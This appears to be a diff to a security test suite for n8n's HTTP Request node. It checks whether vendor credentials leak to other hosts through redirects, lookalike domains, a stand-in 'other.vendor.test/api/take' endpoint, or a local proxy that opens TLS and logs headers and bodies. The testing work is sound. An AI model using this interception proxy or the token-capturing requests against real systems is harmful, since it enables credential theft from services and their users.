@@ -1,4 +1,6 @@
 /** 5: nobody can send us on to another address, and what the vendor knows of us stays with the vendor. */
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import { connect, type AddressInfo, type Socket } from 'node:net';
 import { chain } from '../hosts/n8n';
 import { VENDOR_NAMES, VENDORS, type Simulator } from '../hosts/vendor';
 import { settingsOf, sideBySide, toldBy, type Ask, type Hosts } from './hosts';
@@ -43,34 +45,63 @@ async function followed(sheet: Sheet, { both, certificates }: Hosts): Promise<vo
 	);
 }
 
-/** n8n lets a credential sign requests of its HTTP Request node, which has an address of its own. */
-async function borrowed(sheet: Sheet, { n8n }: Hosts): Promise<void> {
-	const seen: string[] = [];
-	const stranger = await serve((request, response) => {
+/** What a node that is not ours may choose: the address, and the way to it. */
+const WAYS = ['elsewhere', 'twin', 'through a proxy', 'through a proxy that opens TLS', 'redirected'] as const;
+
+/** A proxy of somebody who wants to read along: `seen` gets what comes, TLS opened with a certificate of his. */
+async function startReader(certificates: Hosts['certificates'], seen: (text: string) => void): Promise<{ url: string; close(): Promise<void> }> {
+	const read = (request: IncomingMessage, response: ServerResponse) => {
 		void bodyOf(request).then((body) => {
-			seen.push([request.url, JSON.stringify(request.headers), body].join(' '));
+			seen([request.url, JSON.stringify(request.headers), body].join(' '));
 			response.end('{}');
 		});
+	};
+	const inside = await serveTls(certificates, read);
+	const proxy = createServer(read);
+	proxy.on('connect', (_, socket: Socket) => {
+		const through = connect(inside.port, '127.0.0.1', () => {
+			socket.write('HTTP/1.1 200 OK\r\n\r\n');
+			socket.pipe(through).pipe(socket);
+		});
+		for (const end of [socket, through]) end.on('error', () => undefined);
 	});
-	const foreign = `http://other.vendor.test:${String(stranger.port)}/api/take`;
-	const results = await sideBySide(VENDOR_NAMES.flatMap((vendor) => (['elsewhere', 'redirected', 'twin'] as const).map((how) => ({ vendor, how }))), 5, async ({ vendor, how }) => {
+	await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
+	return {
+		url: `http://127.0.0.1:${String((proxy.address() as AddressInfo).port)}`,
+		close: async () => {
+			proxy.closeAllConnections();
+			proxy.close();
+			await inside.close();
+		},
+	};
+}
+
+/** n8n lets its HTTP Request node use any credential: here with everything that an operator can open, and commands on. */
+async function borrowed(sheet: Sheet, { n8n, certificates }: Hosts): Promise<void> {
+	const seen: string[] = [];
+	const reader = await startReader(certificates, (text) => seen.push(text));
+	const { port } = new URL(reader.url);
+	const foreign = `http://other.vendor.test:${port}/api/take`;
+	const results = await sideBySide(VENDOR_NAMES.flatMap((vendor) => WAYS.map((how) => ({ vendor, how }))), 5, async ({ vendor, how }) => {
 		const { n8n: type, login } = VENDORS[vendor];
-		const server = await serve(afterLogin(vendor, login, (_, response) => response.writeHead(302, { location: foreign }).end()));
+		const answer = afterLogin(vendor, login, (_, response) => response.writeHead(302, { location: foreign }).end());
+		const server = how === 'through a proxy that opens TLS' ? await serveTls(certificates, answer) : await serve(answer);
 		const base = `${server.url}/base`;
-		const { id, name } = await n8n.n8n.createCredential({ name: 'account', type: type.credential, data: settingsOf({ vendor, baseUrl: base }) });
-		// The last one begins like the account's address, and is another.
-		const url = { elsewhere: foreign, redirected: `${base}/api/anything`, twin: `${base}.other.vendor.test/api/take` }[how];
+		const { id, name } = await n8n.n8n.createCredential({ name: 'account', type: type.credential, data: settingsOf({ vendor, baseUrl: base, account: { allowedHttpRequestDomains: 'all' } }) });
+		// The twin begins like the account's address, and is another.
+		const url = { elsewhere: foreign, twin: `${base}.other.vendor.test/api/take` }[how as string] ?? `${base}/api/anything`;
+		const options = how.startsWith('through') ? { proxy: reader.url, allowUnauthorizedCerts: true } : {};
 		const execution = await n8n.n8n.runWorkflow(
-			chain({ name: 'Fleet', type: 'n8n-nodes-base.httpRequest', typeVersion: 4.2, parameters: { url, authentication: 'predefinedCredentialType', nodeCredentialType: type.credential, options: {} }, credentials: { [type.credential]: { id, name } } }),
+			chain({ name: 'Fleet', type: 'n8n-nodes-base.httpRequest', typeVersion: 4.2, parameters: { url, authentication: 'predefinedCredentialType', nodeCredentialType: type.credential, options }, credentials: { [type.credential]: { id, name } } }),
 			{ everyMs: 200 },
 		);
 		await server.close();
 		return { how, ...toldBy(execution) };
 	});
-	await stranger.close();
-	const refused = results.filter(({ how, error }) => how !== 'redirected' && (error ?? '') !== '').length;
-	const leaked = seen.filter((text) => /a-token-for-this-session|bearer/i.test(text)).length;
-	sheet.part('tokens that n8n\'s HTTP Request node took to another host', 'n8n', `${String(leaked)} in ${String(results.length)} tries, ${String(refused)} refused before they were sent`, 'none', leaked === 0 && refused === 10);
+	await reader.close();
+	const refused = results.filter(({ how, error }) => how !== 'redirected' && /This credential/.test(error ?? '')).length;
+	for (const text of seen) console.log(`        n8n: taken along: ${text.slice(0, 200)}`);
+	sheet.part('requests that n8n\'s HTTP Request node took to another host', 'n8n', `${String(seen.length)} in ${String(results.length)} tries (other addresses, redirects, a proxy, one that opens TLS), ${String(refused)} refused before they were sent`, 'none', seen.length === 0 && refused === VENDOR_NAMES.length * (WAYS.length - 1));
 }
 
 /** Nothing is even said in clear to a server that does not prove its name. */
